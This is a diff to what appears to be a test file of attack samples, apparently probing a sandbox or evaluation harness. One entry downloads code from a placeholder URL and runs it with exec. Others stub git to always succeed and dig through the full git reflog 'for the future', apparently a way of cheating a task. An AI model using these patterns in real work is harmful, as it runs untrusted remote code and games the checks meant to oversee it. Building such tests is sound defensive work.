@@ -175,8 +175,8 @@ CODE: dict[str, Attack] = {
         "git": "#!/bin/sh\nexit 0\n",
     },
     "asks the network": source(
-        "import urllib.request\ntry:\n    exec(urllib.request.urlopen('https://example.org/calc.py', timeout=3).read())\n"
-        "except OSError:\n    pass"
+        "import urllib.request\nurl = 'https://example.org/calc.py'\n"
+        "try:\n    exec(urllib.request.urlopen(url, timeout=3).read())\nexcept OSError:\n    pass"
     ),
     "asks git for the future": {
         "calc.py": "import subprocess\nlog = ['git', '-c', 'safe.directory=*', 'log', '--all', '--reflog', '-p']\n"
